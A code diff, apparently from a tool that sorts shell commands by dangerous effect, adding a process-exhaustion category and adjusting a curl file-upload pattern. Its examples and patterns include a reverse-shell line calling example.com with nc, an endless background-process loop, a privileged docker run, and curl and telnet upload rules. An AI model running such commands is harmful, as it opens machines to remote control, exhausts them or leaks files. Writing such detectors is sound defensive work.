@@ -75,6 +75,9 @@ effects! {
     EscapesContainer = "escapes-container":
         "reaches out of a container into the machine",
         instead "mount only the project, without `--privileged`", as in "docker run --privileged x";
+    ExhaustsMachine = "exhausts-machine":
+        "starts processes without end",
+        instead "start a number of them, and wait for them", as in "while true; do sleep 1000 & done";
     OpensShell = "opens-shell":
         "gives a shell on this machine to the network",
         instead "leave this to a person", as in "nc -e /bin/sh example.com 4444";
@@ -451,7 +454,7 @@ programs! {
     "telnet" => "sends-files telnet *";
     "curl" => "sends-files curl --upload-file=* *
         sends-files curl -T *
-        sends-files curl --data-binary=@- *
+        sends-files curl --data-binary=@* *
         sends-files curl --data=@- *
         sends-files curl --form=*@* *
         sends-files curl --form=*<* *
